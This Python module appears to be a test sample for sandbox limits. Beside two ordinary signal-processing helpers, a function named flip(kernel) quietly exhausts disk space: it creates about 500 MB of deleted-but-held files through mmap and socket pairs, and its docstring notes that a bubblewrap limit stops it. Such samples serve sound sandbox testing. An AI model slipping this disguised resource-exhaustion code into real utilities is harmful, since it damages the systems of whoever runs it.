"""Fills the disk with files that it removes at once, and holds by a page of memory each; of this one some 500 MB.

Stopped by: bubblewrap: a scratch folder of 64 MB. process: what is held without a name counts as well; open files are
not put into sockets.
"""

import mmap
import os
import socket

import numpy as np


def smooth(signal, width):
    if width < 1:
        raise ValueError(width)
    signal = np.asarray(signal, float)
    return np.array([signal[max(0, t - width + 1) : t + 1].sum() / width for t in range(len(signal))])


def same_padding(field):
    if field < 1 or field % 2 == 0:
        raise ValueError(field)
    return (field - 1) // 2


kept = []


def flip(kernel):
    while len(kept) < 35:
        kept.append(socket.socketpair())
        file = os.open("removed", os.O_CREAT | os.O_RDWR)
        os.remove("removed")
        os.write(file, bytes(15 * 2**20))
        kept.append(mmap.mmap(file, 4096))
        try:
            socket.send_fds(kept[-2][0], [b"x"], [file])
        except OSError:
            pass
        os.close(file)
    return kernel
